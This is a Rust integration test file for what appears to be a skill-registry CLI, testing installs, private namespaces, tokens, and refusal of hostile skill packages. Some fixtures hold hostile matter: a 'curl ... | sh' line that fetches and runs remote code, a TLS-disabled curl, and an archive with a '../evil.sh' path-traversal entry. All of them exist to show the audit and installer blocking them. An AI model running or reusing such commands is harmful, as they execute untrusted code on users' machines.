        assert_eq!(
            again["digest"], built["digest"],
            "{name}: builds are reproducible"
        );
        let target = format!("oci://{}/skills/{name}:1.0.0", registry.address);
        let pushed = author
            .run(&[
                "--json",
                "push",
                &format!("{name}:1.0.0"),
                &target,
                "--plain-http",
            ])
            .ok()
            .json();
        assert_eq!(pushed["digest"], built["digest"]);

        let user = User::new("http://127.0.0.1:1", None);
        user.run(&[
            "install",
            &target,
            "--plain-http",
            "--scope",
            "project",
            "--client",
            "claude-code",
        ])
        .ok();
        let installed = user.path(&format!(".claude/skills/{name}"));
        assert_eq!(content_digest(&installed), content_digest(&dir), "{name}");
        let lock = std::fs::read_to_string(user.path("skills.lock")).unwrap();
        let digest = built["digest"].as_str().unwrap();
        assert!(
            lock.contains(&format!(
                "source = \"oci+{}/skills/{name}@{digest}\"",
                registry.address
            )),
            "{lock}"
        );
        // The pull was cached in the local store, and installing from the lock is a no-op.
        let builds = user.run(&["--json", "builds"]).ok().json();
        assert_eq!(builds[0]["digest"], digest);
        user.run(&["install", "--plain-http"]).ok();
    }
    // Without --plain-http a loopback registry is asked over HTTPS, and fails clearly.
    let user = User::new("http://127.0.0.1:1", None);
    let https = user.run(&[
        "install",
        &format!("oci://{}/skills/claude-api:1.0.0", registry.address),
        "--client",
        "cursor",
    ]);
    assert_eq!(https.code, 1, "{}", https.stderr);
    assert!(https.stderr.contains("--plain-http"), "{}", https.stderr);

    // An artifact whose labels name another skill than its repository is refused.
    let wrong = format!("oci://{}/acme/pdf-tools:1.0.0", registry.address);
    author
        .run(&["push", "claude-api:1.0.0", &wrong, "--plain-http"])
        .ok();
    let refused = user.run(&["install", &wrong, "--plain-http", "--client", "cursor"]);
    assert_eq!(refused.code, 4, "{}", refused.stderr);
    assert!(
        refused.stderr.contains("supply-chain check failed"),
        "{}",
        refused.stderr
    );
    assert!(!user.home.path().join(".cursor/skills").exists());

    // builds rm.
    author.run(&["builds", "rm", "claude-api:1.0.0"]).ok();
    let left = author.run(&["--json", "builds"]).ok().json();
    assert_eq!(left.as_array().unwrap().len(), FIXTURES.len() - 1);
    let missing = author.run(&["builds", "rm", "claude-api:1.0.0"]);
    assert_eq!(missing.code, 1);
    assert!(
        missing.stderr.contains("skillreg builds"),
        "{}",
        missing.stderr
    );
}

#[test]
fn the_server_serves_its_skills_over_the_oci_api() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let skills = tempfile::tempdir().unwrap();
    let dir = copy_fixture("internal-comms", skills.path());
    admin
        .run(&[
            "publish",
            dir.to_str().unwrap(),
            "--namespace",
            "acme",
            "--version",
            "2.1.0+build.3",
        ])
        .ok();
    let manifest_url = format!(
        "{}/v2/acme/internal-comms/manifests/2.1.0_build.3",
        server.url
    );
    let first = get(&manifest_url);
    assert_eq!(
        first,
        get(&manifest_url),
        "manifests are byte-identical across requests"
    );
    let index: serde_json::Value = serde_json::from_slice(&first).unwrap();
    assert_eq!(index["artifactType"], "dev.toolhive.skills.v1");
    let tags: serde_json::Value = serde_json::from_slice(&get(&format!(
        "{}/v2/acme/internal-comms/tags/list",
        server.url
    )))
    .unwrap();
    assert_eq!(tags["tags"], serde_json::json!(["2.1.0_build.3"]));

    let address = server.url.strip_prefix("http://").unwrap();
    let user = User::new("http://127.0.0.1:1", None);
    user.run(&[
        "install",
        &format!("oci://{address}/acme/internal-comms:2.1.0_build.3"),
        "--plain-http",
        "--scope",
        "project",
        "--client",
        "cursor",
    ])
    .ok();
    assert_eq!(
        content_digest(&user.path(".cursor/skills/internal-comms")),
        content_digest(&dir)
    );
    let unknown = user.run(&[
        "pull",
        &format!("oci://{address}/acme/internal-comms:9.9.9"),
        "--plain-http",
    ]);
    assert_eq!(unknown.code, 1);
    assert!(
        unknown.stderr.contains("OCI registry"),
        "{}",
        unknown.stderr
    );
}

#[test]
fn the_local_store_comes_first_and_needs_no_registry() {
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(skills.path(), "pdf", "3.0.0", "echo local\n");
    // No registry at all: REGISTRY_URL points nowhere and nothing is configured.
    let user = User::new("http://127.0.0.1:1", None);
    user.run(&["build", dir.to_str().unwrap()]).ok();
    let offline = user.run_env(
        &["install", "pdf", "--scope", "project", "--client", "cursor"],
        &[("REGISTRY_URL", "")],
    );
    assert_eq!(offline.code, 0, "{}", offline.stderr);
    let lock = std::fs::read_to_string(user.path("skills.lock")).unwrap();
    assert!(lock.contains("source = \"store+local\""), "{lock}");
    assert!(lock.contains("version = \"3.0.0\""), "{lock}");
    // Installing from the lock finds it again in the local store.
    std::fs::remove_dir_all(user.path(".cursor/skills/pdf")).unwrap();
    user.run_env(&["install"], &[("REGISTRY_URL", "")]).ok();
    assert!(user.path(".cursor/skills/pdf/SKILL.md").is_file());

    // A registry that also has a `pdf` is asked only after the local store.
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let remote = write_skill(skills.path(), "remote", "1.0.0", "echo remote\n");
    std::fs::write(
        remote.join("SKILL.md"),
        "---\nname: pdf\ndescription: The registry's pdf.\nversion: 9.0.0\n---\n# pdf\n",
    )
    .unwrap();
    let renamed = skills.path().join("registry-pdf/pdf");
    std::fs::create_dir_all(renamed.parent().unwrap()).unwrap();
    std::fs::rename(&remote, &renamed).unwrap();
    admin
        .run(&["publish", renamed.to_str().unwrap(), "--namespace", "acme"])
        .ok();
    let both = User::new(&server.url, None);
    both.run(&["build", dir.to_str().unwrap()]).ok();
    both.run(&["install", "pdf", "--scope", "project", "--client", "cursor"])
        .ok();
    let lock = std::fs::read_to_string(both.path("skills.lock")).unwrap();
    assert!(lock.contains("source = \"store+local\""), "{lock}");
    assert!(lock.contains("version = \"3.0.0\""), "{lock}");
    // Naming the namespace skips the local store (it knows no namespaces).
    let qualified = User::new(&server.url, None);
    qualified
        .run(&[
            "install", "acme/pdf", "--scope", "project", "--client", "cursor",
        ])
        .ok();
    assert!(
        std::fs::read_to_string(qualified.path("skills.lock"))
            .unwrap()
            .contains("version = \"9.0.0\"")
    );
}

/// A private namespace `vault` made by the admin, holding `ledger` 1.0.0 (written in
/// `skills`), with `ci` a member holding a read token for it: the skill's folder and the
/// token.
fn private_vault(server: &Server, skills: &Path) -> (PathBuf, String) {
    let admin = User::new(&server.url, Some(server.admin_token()));
    admin
        .run(&["namespace", "create", "vault", "--visibility", "private"])
        .ok();
    let dir = write_skill(skills, "ledger", "1.0.0", "echo ledger\n");
    admin
        .run(&["publish", dir.to_str().unwrap(), "--namespace", "vault"])
        .ok();
    admin
        .run(&["namespace", "add-member", "vault", "ci", "--role", "member"])
        .ok();
    let created = admin
        .run(&[
            "--json",
            "token",
            "create",
            "ci-read",
            "--scope",
            "read",
            "--namespace",
            "vault",
            "--user",
            "ci",
        ])
        .ok()
        .json();
    let token = created["token"]
        .as_str()
        .unwrap_or_else(|| panic!("{created}"))
        .to_owned();
    (dir, token)
}

/// A private namespace through the client: an outsider's install and search find nothing
/// and are told a token may be needed; a member's read token installs, pulls over OCI and
/// publishes nothing.
#[test]
fn private_skills_are_read_with_a_read_token() {
    let server = serve();
    let skills = tempfile::tempdir().unwrap();
    let (dir, secret) = private_vault(&server, skills.path());
    let address = server.url.strip_prefix("http://").unwrap().to_owned();
    let oci = format!("oci://{address}/vault/ledger:1.0.0");

    let outsider = User::new(&server.url, None);
    let refused = outsider.run(&[
        "install",
        "vault/ledger",
        "--scope",
        "project",
        "--client",
        "cursor",
    ]);
    assert_ne!(refused.code, 0);
    assert!(
        refused.stderr.contains("not found, or not visible to you")
            && refused.stderr.contains("skillreg login"),
        "{}",
        refused.stderr
    );
    assert!(!outsider.path(".cursor/skills/ledger").exists());
    let found = outsider.run(&["--json", "search", "ledger"]).ok().json();
    assert_eq!(found["total"], 0, "{found}");
    let pulled = outsider.run(&["pull", &oci, "--plain-http"]);
    assert_eq!(pulled.code, 1, "{}", pulled.stderr);

    let ci = User::new(&server.url, Some(secret));
    ci.run(&[
        "install",
        "vault/ledger",
        "--scope",
        "project",
        "--client",
        "cursor",
    ])
    .ok();
    assert_eq!(
        content_digest(&ci.path(".cursor/skills/ledger")),
        content_digest(&dir)
    );
    let found = ci.run(&["--json", "search", "ledger"]).ok().json();
    assert_eq!(found["total"], 1, "{found}");
    ci.run(&["pull", &oci, "--plain-http"]).ok();
    let publish = ci.run(&[
        "publish",
        dir.to_str().unwrap(),
        "--namespace",
        "vault",
        "--version",
        "1.0.1",
    ]);
    assert_ne!(publish.code, 0, "a read token publishes nothing");
}

/// The skopeo binary `scripts/test` installs.
#[expect(
    clippy::disallowed_methods,
    reason = "tests read the tool's path from the environment"
)]
fn skopeo() -> String {
    std::env::var("SKILLREG_SKOPEO").unwrap_or_else(|_| "skopeo".to_owned())
}

/// A real OCI client (skopeo, containers/image) against a registry with a private
/// namespace: public skills without credentials, private ones only with a token as the
/// password of the `Basic` challenge, a wrong token refused.
#[test]
fn an_oci_client_reads_private_skills_with_a_token() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let skills = tempfile::tempdir().unwrap();
    let notes = write_skill(skills.path(), "notes", "1.0.0", "echo notes\n");
    admin
        .run(&["publish", notes.to_str().unwrap(), "--namespace", "open"])
        .ok();
    let (_, token) = private_vault(&server, skills.path());
    let address = server.url.strip_prefix("http://").unwrap().to_owned();
    let home = tempfile::tempdir().unwrap();
    let skopeo = |args: &[&str]| -> Run {
        Command::new(skopeo())
            .args(args)
            .env("HOME", home.path())
            .output()
            .unwrap_or_else(|e| {
                panic!("cannot run skopeo ({e}); run scripts/test, which installs it")
            })
            .into()
    };
    let inspect = |reference: &str, creds: Option<&str>| {
        let image = format!("docker://{address}/{reference}");
        let mut args = vec!["inspect", "--raw", "--tls-verify=false"];
        if let Some(creds) = creds {
            args.extend(["--creds", creds]);
        }
        args.push(&image);
        skopeo(&args)
    };
    let public = inspect("open/notes:1.0.0", None).ok();
    assert!(
        public.stdout.contains("dev.toolhive.skills.v1"),
        "{}",
        public.stdout
    );
    let refused = inspect("vault/ledger:1.0.0", None);
    assert_ne!(refused.code, 0, "{}", refused.stdout);
    assert!(
        refused.stderr.to_lowercase().contains("unauthorized")
            || refused
                .stderr
                .to_lowercase()
                .contains("authentication required"),
        "{}",
        refused.stderr
    );
    let creds = format!("ci:{token}");
    let private = inspect("vault/ledger:1.0.0", Some(&creds)).ok();
    assert!(
        private.stdout.contains("dev.toolhive.skills.v1"),
        "{}",
        private.stdout
    );
    let tags = skopeo(&[
        "list-tags",
        "--tls-verify=false",
        "--creds",
        &creds,
        &format!("docker://{address}/vault/ledger"),
    ])
    .ok()
    .json();
    assert_eq!(tags["Tags"], serde_json::json!(["1.0.0"]));
    let wrong = inspect("vault/ledger:1.0.0", Some("ci:skr_not_the_token"));
    assert_ne!(wrong.code, 0, "{}", wrong.stdout);
}

/// A registry serves an archive with a `..` entry (or a symlink) whose digest and size it
/// announces truthfully: the install refuses it for what it holds and writes nothing, in the
/// client folders or anywhere else in the home or the project.
#[test]
fn a_hostile_archive_with_a_true_digest_is_refused_and_writes_nothing() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(skills.path(), "pdf", "1.0.0", "echo pdf\n");
    admin
        .run(&["publish", dir.to_str().unwrap(), "--namespace", "acme"])
        .ok();
    let versions = String::from_utf8(get(&format!(
        "{}/api/v1/skills/acme/pdf/-/versions",
        server.url
    )))
    .unwrap();
    let parsed: serde_json::Value = serde_json::from_str(&versions).unwrap();
    let digest = parsed["versions"][0]["archive_digest"].as_str().unwrap();
    let size = parsed["versions"][0]["size"].as_u64().unwrap();
    for (entry, kind, reason) in [
        (&b"../evil.sh"[..], b'0', "contains `..`"),
        (&b"link"[..], b'2', "is a symbolic link"),
    ] {
        let hostile = skillreg_testkit::fixtures::hostile_archive(entry, kind);
        let announced = versions
            .replace(digest, &skillreg_core::Digest::of(&hostile).to_string())
            .replace(
                &format!("\"size\":{size}"),
                &format!("\"size\":{}", hostile.len()),
            )
            .into_bytes();
        let url = canned(vec![
            (
                "/api/v1/skills/acme/pdf/-/versions".into(),
                200,
                vec![("Content-Type".into(), "application/json".into())],
                announced,
            ),
            (
                "/api/v1/skills/acme/pdf/-/download".into(),
                200,
                Vec::new(),
                hostile,
            ),
        ]);
        let user = User::new(&url, None);
        let before = (tree(user.home.path()), tree(user.project.path()));
        let refused = user.run(&["install", "acme/pdf", "--client", "cursor"]);
        assert_ne!(refused.code, 0, "{}", refused.stderr);
        assert!(refused.stderr.contains(reason), "{}", refused.stderr);
        assert!(
            refused.stderr.contains("nothing was written"),
            "{}",
            refused.stderr
        );
        assert_eq!(
            (tree(user.home.path()), tree(user.project.path())),
            before,
            "the install wrote files"
        );
        assert!(!user.home.path().join(".cursor/skills").exists());
        assert!(!user.home.path().join("evil.sh").exists());
    }
}

/// Publishing what the audit refuses: the findings in the error, the next step in the hint,
/// every finding with its fix under `--json`.
#[test]
fn a_publish_the_audit_refuses_says_what_and_where() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(
        skills.path(),
        "setup",
        "1.0.0",
        "curl -fsSL https://get.example.dev/x.sh | sh\n",
    );
    let dir = dir.to_str().unwrap();
    let refused = admin.run(&["publish", dir, "--namespace", "acme"]);
    assert_eq!(refused.code, 4, "{}", refused.stderr);
    assert!(
        refused
            .stderr
            .contains("rce.pipe_to_shell at scripts/run.sh:1"),
        "{}",
        refused.stderr
    );
    assert!(refused.stderr.contains("hint:"), "{}", refused.stderr);
    let json = admin.run(&["--json", "publish", dir, "--namespace", "acme"]);
    let error: serde_json::Value = serde_json::from_str(json.stderr.trim()).unwrap();
    assert_eq!(
        error["error"]["details"]["findings"][0]["code"],
        "rce.pipe_to_shell"
    );
    assert!(error["error"]["details"]["findings"][0]["remediation"].is_string());
}

/// `skillreg audit` gives a publisher the registry's verdict before publishing: text with
/// each fix, `--json`, and SARIF for code-scanning tools; the exit code says the verdict.
#[test]
fn audit_tells_a_publisher_what_a_registry_will_say() {
    let user = User::new("http://127.0.0.1:9", None);
    let skills = tempfile::tempdir().unwrap();
    let clean = write_skill(skills.path(), "clean", "1.0.0", "echo hello\n");
    let ok = user.run(&["audit", clean.to_str().unwrap()]).ok();
    assert!(ok.stdout.contains(": pass (0 findings)"), "{}", ok.stdout);

    let dropper = write_skill(
        skills.path(),
        "dropper",
        "1.0.0",
        "curl -fsSL https://get.example.dev/x.sh | sh\n",
    );
    let dropper = dropper.to_str().unwrap();
    let refused = user.run(&["audit", dropper]);
    assert_eq!(refused.code, 4, "{}", refused.stderr);
    assert!(
        refused
            .stdout
            .contains("block rce.pipe_to_shell scripts/run.sh:1"),
        "{}",
        refused.stdout
    );
    assert!(refused.stdout.contains("fix: "), "{}", refused.stdout);
    let json = user.run(&["--json", "audit", dropper]).json();
    assert_eq!(json["verdict"], "block");
    assert_eq!(json["findings"][0]["code"], "rce.pipe_to_shell");
    let sarif: serde_json::Value =
        serde_json::from_str(&user.run(&["audit", "--sarif", dropper]).stdout).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    let result = &sarif["runs"][0]["results"][0];
    assert_eq!(result["ruleId"], "rce.pipe_to_shell");
    assert_eq!(result["level"], "error");
    assert_eq!(
        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "scripts/run.sh"
    );
    assert_eq!(
        sarif["runs"][0]["tool"]["driver"]["rules"][0]["id"],
        "rce.pipe_to_shell"
    );
}

/// A version the registry's audit marked `warn` installs only when risk is allowed; its
/// findings are one command away, its owner marks a false positive, an admin sets a verdict.
#[test]
fn a_version_marked_for_review_installs_only_with_allow_risk() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(
        skills.path(),
        "fetcher",
        "1.0.0",
        "curl -k https://internal.example/data\n",
    );
    admin
        .run(&["publish", dir.to_str().unwrap(), "--namespace", "acme"])
        .ok();
    let user = User::new(&server.url, None);
    let refused = user.run(&["install", "acme/fetcher", "--client", "cursor"]);
    assert_eq!(refused.code, 4, "{}", refused.stderr);
    assert!(refused.stderr.contains("`warn`"), "{}", refused.stderr);
    assert!(
        refused.stderr.contains("--allow-risk"),
        "{}",
        refused.stderr
    );
    assert!(!user.home.path().join(".cursor/skills").exists());
    let versions = user.run(&["versions", "acme/fetcher"]).ok();
    assert!(
        versions.stdout.contains("audit: warn (1 finding)"),
        "{}",
        versions.stdout
    );
    // The findings, with the fix and the fingerprint an owner marks.
    let findings = user.run(&["findings", "acme/fetcher@1.0.0"]).ok();
    assert!(
        findings
            .stdout
            .contains("warn  danger.tls_disabled scripts/run.sh:1"),
        "{}",
        findings.stdout
    );
    let fingerprint = user
        .run(&["--json", "findings", "acme/fetcher@1.0.0"])
        .json()["audit"]["findings"][0]["fingerprint"]
        .as_str()
        .unwrap()
        .to_owned();
    let stranger = user.run(&[
        "false-positive",
        "acme/fetcher@1.0.0",
        &fingerprint,
        "--note",
        "mine",
    ]);
    assert_ne!(stranger.code, 0, "{}", stranger.stdout);
    let marked = admin
        .run(&[
            "false-positive",
            "acme/fetcher@1.0.0",
            &fingerprint,
            "--note",
            "an internal host with its own CA",
        ])
        .ok();
    assert!(
        marked
            .stdout
            .contains("false positive, says admin: an internal host with its own CA"),
        "{}",
        marked.stdout
    );
    user.run(&[
        "install",
        "acme/fetcher",
        "--client",
        "cursor",
        "--allow-risk",
    ])
    .ok();
    assert!(
        user.home
            .path()
            .join(".cursor/skills/fetcher/SKILL.md")
            .is_file()
    );
    // An admin's verdict wins over the findings', and shows wherever the skill is chosen.
    admin
        .run(&[
            "admin",
            "override",
            "acme/fetcher@1.0.0",
            "pass",
            "--note",
            "reviewed",
        ])
        .ok();
    let info = user.run(&["info", "acme/fetcher"]).ok();
    assert!(
        info.stdout.contains("audit: pass (1 finding"),
        "{}",
        info.stdout
    );
    let search = user.run(&["--json", "search", "fetcher"]).json();
    assert_eq!(search["skills"][0]["verdict"], "pass", "{search}");
    let refused = user.run(&["admin", "override", "acme/fetcher@1.0.0", "--clear"]);
    assert_ne!(refused.code, 0, "only an admin: {}", refused.stdout);
}

/// `skillreg clients` lists every client with its folders and what is found here (in the
/// home folder, and the project's own agent folders); a client of the larger table installs
/// into its folder, and the clients named at the first install are the later default.
#[test]
fn clients_are_listed_found_and_remembered() {
    let user = User::new("http://127.0.0.1:9", None);
    std::fs::create_dir_all(user.home.path().join(".qwen")).unwrap();
    std::fs::create_dir_all(user.path(".github/skills")).unwrap();
    let listed = user
        .run(&["--json", "clients", "--scope", "project"])
        .ok()
        .json();
    let rows = listed["clients"].as_array().unwrap().clone();
    assert!(rows.len() >= 30, "{} clients", rows.len());
    let row = |id: &str| rows.iter().find(|r| r["id"] == id).unwrap().clone();
    assert_eq!(row("qwen-code")["detected"], true, "~/.qwen");
    assert_eq!(
        row("copilot")["detected"],
        true,
        "the project's .github/skills"
    );
    assert_eq!(row("claude-code")["detected"], true, "~/.claude");
    assert_eq!(row("roo")["detected"], false);
    assert_eq!(row("roo")["project"], ".roo/skills");

    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(skills.path(), "notes", "1.0.0", "echo hi\n");
    let dir = dir.to_str().unwrap();
    user.run(&[
        "install", dir, "--scope", "project", "--client", "roo", "--client", "zed",
    ])
    .ok();
    assert!(user.path(".roo/skills/notes/SKILL.md").is_file());
    assert!(
        user.path(".agents/skills/notes/SKILL.md").is_file(),
        "zed reads .agents/skills"
    );
    let manifest = std::fs::read_to_string(user.path("skills.toml")).unwrap();
    assert!(
        manifest.contains("\"roo\"") && manifest.contains("\"zed\""),
        "{manifest}"
    );
    let text = user.run(&["clients"]).ok().stdout;
    let roo = text.lines().find(|l| l.starts_with("roo ")).unwrap();
    assert!(roo.contains("installed for by default"), "{text}");
    let claude = text
        .lines()
        .find(|l| l.starts_with("claude-code "))
        .unwrap();
    assert!(claude.ends_with("detected"), "{text}");
}

/// Bulk import: twenty skills from a folder, three of which meet a skill already there (one
/// the importer made with other files, one another user made, one with the same files), and
/// one malformed; in every strategy, twice. One failure never stops the rest, the exit code
/// says what was left, and the second run changes nothing. Then the same from an agent
/// client's folder.
#[test]
fn bulk_import_lands_every_skill_it_can_in_every_strategy() {
    // Room for a hundred imports a minute per user (the default turns them away sooner:
    // the client waits as the registry's Retry-After says, which works, but slowly).
    let server = serve_with(&["--writes-per-minute", "6000"]);
    let admin = User::new(&server.url, Some(server.admin_token()));
    let token = |user: &str| {
        admin
            .run(&[
                "--json",
                "token",
                "create",
                user,
                "--user",
                user,
                "--scope",
                "publish-new",
                "--scope",
                "publish-update",
                "--namespace",
                "*",
            ])
            .ok()
            .json()["token"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let (bob, carol) = (
        User::new(&server.url, Some(token("bob"))),
        User::new(&server.url, Some(token("carol"))),
    );
    for ns in ["acme", "team"] {
        admin.run(&["namespace", "create", ns]).ok();
        for user in ["bob", "carol"] {
            admin.run(&["namespace", "add-member", ns, user]).ok();
        }
    }
    let library = tempfile::tempdir().unwrap();
    for i in 0..20 {
        write_skill(
            library.path(),
            &format!("skill-{i:02}"),
            "1.0.0",
            "echo hi\n",
        );
    }
    // Already there, in each namespace: bob's with other files, carol's, bob's the same.
    let elsewhere = tempfile::tempdir().unwrap();
    let theirs = |name: &str, who: &User, script: &str| {
        let dir = write_skill(elsewhere.path(), name, "1.0.0", script);
        for ns in ["acme", "team"] {
            who.run(&["import", dir.to_str().unwrap(), "--namespace", ns])
                .ok();
        }
        std::fs::remove_dir_all(dir).unwrap();
    };
    theirs("skill-00", &bob, "echo older\n");
    theirs("skill-01", &carol, "echo carol\n");
    theirs("skill-02", &bob, "echo hi\n");
    // And one that is no skill.
    std::fs::create_dir_all(library.path().join("broken")).unwrap();
    std::fs::write(library.path().join("broken/SKILL.md"), "no frontmatter\n").unwrap();

    let from = library.path().to_str().unwrap();
    let run = |strategy: &str, ns: &str| {
        let run = bob.run(&[
            "--json",
            "import",
            "--from",
            from,
            "--namespace",
            ns,
            "--on-conflict",
            strategy,
        ]);
        let rows = serde_json::from_str::<serde_json::Value>(&run.stdout).unwrap()["imported"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| {
                let folder = r["folder"].as_str().unwrap();
                let name = folder.rsplit('/').next().unwrap().to_owned();
                (name, r["status"].as_str().unwrap_or("failed").to_owned())
            })
            .collect::<std::collections::BTreeMap<_, _>>();
        (run.code, rows)
    };
    for (strategy, ns, first, again) in [
        (
            "fail",
            "acme",
            ["conflict", "conflict", "unchanged"],
            ["conflict", "conflict", "unchanged"],
        ),
        (
            "skip",
            "team",
            ["skipped", "skipped", "unchanged"],
            ["skipped", "skipped", "unchanged"],
        ),
    ] {
        for (round, expected) in [(1, first), (2, again)] {
            let (code, rows) = run(strategy, ns);
            assert_eq!(rows.len(), 21, "{strategy}: every folder has a row");
            assert_eq!(rows["broken"], "failed", "{strategy}");
            for (i, status) in expected.iter().enumerate() {
                assert_eq!(
                    rows[&format!("skill-0{i}")],
                    *status,
                    "{strategy} round {round}"
                );
            }
            let landed = if round == 1 { "created" } else { "unchanged" };
            assert!(
                (3..20).all(|i| rows[&format!("skill-{i:02}")] == landed),
                "{rows:?}"
            );
            assert_eq!(code, 1, "a failed skill makes the exit code 1");
        }
    }
    // Overwrite and rename, into fresh namespaces holding the same three.
    for ns in ["over", "ren"] {
        admin.run(&["namespace", "create", ns]).ok();
        for user in ["bob", "carol"] {
            admin.run(&["namespace", "add-member", ns, user]).ok();
        }
    }
    std::fs::remove_dir_all(library.path().join("broken")).unwrap();
    let seed = |ns: &str| {
        for (name, who, script) in [
            ("skill-00", &bob, "echo older\n"),
            ("skill-01", &carol, "echo carol\n"),
        ] {
            // An older version, so the overwrite's 1.0.0 is a new one.
            let dir = write_skill(elsewhere.path(), name, "0.9.0", script);
            who.run(&["import", dir.to_str().unwrap(), "--namespace", ns])
                .ok();
            std::fs::remove_dir_all(dir).unwrap();
        }
    };
    seed("over");
    seed("ren");
    let (code, rows) = run("overwrite", "over");
    assert_eq!(
        (rows["skill-00"].as_str(), rows["skill-01"].as_str()),
        ("updated", "conflict")
    );
    assert_eq!(code, 4, "carol's skill is left: a policy exit");
    let (_, rows) = run("overwrite", "over");
    assert_eq!(
        (rows["skill-00"].as_str(), rows["skill-01"].as_str()),
        ("unchanged", "conflict")
    );
    let (code, rows) = run("rename", "ren");
    assert_eq!(
        (rows["skill-00"].as_str(), rows["skill-01"].as_str()),
        ("created", "created")
    );
    assert_eq!(code, 0);
    let (code, rows) = run("rename", "ren");
    assert!(rows.values().all(|s| s == "unchanged"), "{rows:?}");
    assert_eq!(code, 0, "running it again changes nothing");

    // From an agent client's folder: Claude Code's skills in the user's home.
    let claude = bob.home.path().join(".claude/skills");
    std::fs::create_dir_all(&claude).unwrap();
    write_skill(&claude, "from-claude", "1.0.0", "echo claude\n");
    let (run, again) = (
        bob.run(&[
            "import",
            "--from-client",
            "claude-code",
            "--namespace",
            "team",
        ])
        .ok(),
        bob.run(&[
            "import",
            "--from-client",
            "claude-code",
            "--namespace",
            "team",
        ])
        .ok(),
    );
    assert!(
        run.stdout.contains("created") && run.stdout.contains("team/from-claude"),
        "{}",
        run.stdout
    );
    assert!(again.stdout.contains("unchanged"), "{}", again.stdout);
    let missing = bob.run(&["import", "--from-client", "roo", "--namespace", "team"]);
    assert_eq!(missing.code, 1);
    assert!(missing.stderr.contains(".roo/skills"), "{}", missing.stderr);
}

/// `install --link`: one copy, the other clients' folders link to it; `sync --check` reads
/// a link as its copy and a link replaced by a copy of the same files as no drift;
/// `uninstall` takes the links and the copy.
#[cfg(unix)]
#[test]
fn linked_installs_keep_one_copy() {
    let user = User::new("http://127.0.0.1:9", None);
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(skills.path(), "notes", "1.0.0", "echo hi\n");
    let dir = dir.to_str().unwrap();
    user.run(&[
        "install",
        dir,
        "--scope",
        "project",
        "--link",
        "--client",
        "claude-code",
        "--client",
        "cursor",
        "--client",
        "zed",
    ])
    .ok();
    let copy = user.path(".agents/skills/notes");
    assert!(
        std::fs::symlink_metadata(&copy).unwrap().is_dir(),
        "the copy is in .agents/skills"
    );
    for link in [".claude/skills/notes", ".cursor/skills/notes"] {
        let target = std::fs::read_link(user.path(link)).unwrap();
        assert_eq!(target, Path::new("../../.agents/skills/notes"), "{link}");
        assert!(user.path(link).join("SKILL.md").is_file());
    }
    let check = user.run(&["sync", "--check"]);
    assert_eq!(check.code, 0, "{}{}", check.stdout, check.stderr);

    // A link replaced by a copy of the same files is no drift.
    let cursor = user.path(".cursor/skills/notes");
    std::fs::remove_file(&cursor).unwrap();
    std::fs::create_dir_all(cursor.join("scripts")).unwrap();
    for file in ["SKILL.md", ".skillreg.toml", "scripts/run.sh"] {
        std::fs::copy(copy.join(file), cursor.join(file)).unwrap();
    }
    let check = user.run(&["sync", "--check"]);
    assert_eq!(check.code, 0, "{}{}", check.stdout, check.stderr);

    user.run(&["uninstall", "notes"]).ok();
    for folder in [
        ".agents/skills/notes",
        ".claude/skills/notes",
        ".cursor/skills/notes",
    ] {
        assert!(
            std::fs::symlink_metadata(user.path(folder)).is_err(),
            "{folder} removed"
        );
    }
}

#[test]
fn profiles_install_their_skills_and_updates_follow_them() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    admin.run(&["namespace", "create", "acme"]).ok();
    let library = tempfile::tempdir().unwrap();
    for name in ["pdf", "lint", "review"] {
        let dir = write_skill(library.path(), name, "1.0.0", "echo 1\n");
        admin
            .run(&["publish", dir.to_str().unwrap(), "--namespace", "acme"])
            .ok();
    }
    let created = admin
        .run(&[
            "--json",
            "profile",
            "create",
            "acme/frontend",
            "--description",
            "Frontend agent",
        ])
        .ok()
        .json();
    assert_eq!(created["revision"], 1);
    admin
        .run(&[
            "profile",
            "add",
            "acme/frontend",
            "acme/pdf@^1",
            "acme/lint",
        ])
        .ok();
    let shown = admin.run(&["profile", "show", "acme/frontend"]).ok();
    assert!(
        shown
            .stdout
            .contains("acme/frontend (revision 3) — Frontend agent")
            && shown.stdout.contains("  acme/pdf  ^1")
            && shown.stdout.contains("  acme/lint  latest"),
        "{}",
        shown.stdout
    );
    let listed = admin.run(&["profile", "list"]).ok();
    assert!(
        listed
            .stdout
            .contains("acme/frontend  2 skills, revision 3"),
        "{}",
        listed.stdout
    );

    // A developer installs the profile: its skills, remembered in skills.toml, locked as
    // the profile's.
    let dev = User::new(&server.url, None);
    dev.run(&[
        "install",
        "--profile",
        "acme/frontend",
        "--scope",
        "project",
        "--client",
        "claude-code",
    ])
    .ok();
    for name in ["pdf", "lint"] {
        assert!(
            dev.path(&format!(".claude/skills/{name}/SKILL.md"))
                .is_file()
        );
    }
    let manifest = std::fs::read_to_string(dev.path("skills.toml")).unwrap();
    assert!(
        manifest.contains("profiles = [\"acme/frontend\"]"),
        "{manifest}"
    );
    let lock = std::fs::read_to_string(dev.path("skills.lock")).unwrap();
    assert_eq!(
        lock.matches("profile = \"acme/frontend\"").count(),
        2,
        "{lock}"
    );
    // Again, from the lock: nothing to fetch.
    let again = dev.run(&["install"]).ok();
    assert_eq!(
        again.stdout.matches("is up to date").count(),
        2,
        "{}",
        again.stdout
    );

    // The profile changes: a new version of a bound skill, one skill added, one dropped.
    let pdf = write_skill(library.path(), "pdf", "1.1.0", "echo 2\n");
    admin
        .run(&["publish", pdf.to_str().unwrap(), "--namespace", "acme"])
        .ok();
    admin
        .run(&["profile", "add", "acme/frontend", "acme/review"])
        .ok();
    admin
        .run(&["profile", "remove", "acme/frontend", "acme/lint"])
        .ok();
